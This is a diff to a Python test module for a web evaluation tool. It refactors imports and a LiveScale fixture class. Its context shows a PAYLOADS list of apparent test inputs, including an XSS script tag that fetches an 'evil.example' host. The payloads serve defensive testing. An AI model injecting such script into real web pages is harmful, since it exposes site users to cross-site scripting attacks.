@@ -7,17 +7,14 @@ import threading
 import time
 
 import uvicorn
-from campaigns.store.store_cases import make_campaign
 from patience import PATIENCE_S
-from web.conftest import Site
+from web.conftest import Plain, Site
 from web.elsewhere_site import AtSite
 from web.test_comparing_page import Compares
 
-from activeeval.campaigns.pair_desk import page_desk
 from activeeval.campaigns.store import open_store
-from activeeval.web.app import make_app
 from activeeval.web.people import invited
-from activeeval.web.settings import ServedCampaign, ServerSettings
+from activeeval.web.settings import ServerSettings
 
 PAYLOADS = (
     "<script>fetch('http://evil.example/')</script>",
@@ -106,14 +103,11 @@ class LivePairs(Compares, Running):
         self.run()
 
 
-class LiveScale(Running):
+class LiveScale(Plain, Running):
     """A campaign of thirty grades, or of what a test wants, behind a server."""
 
     def __init__(self, url="sqlite://", units=None, max_grade=29):
-        self.store = open_store(url, create=True, wait_s=0.2)
-        make_campaign(self.store, units, max_grade=max_grade)
-        self.served = ServedCampaign(store=self.store, desk=page_desk(self.store, "night", {}), door=self.listen())
-        self.app = make_app(self.served)
+        super().__init__(open_store(url, create=True, wait_s=0.2), units, door=self.listen(), max_grade=max_grade)
         self.run()
 
 
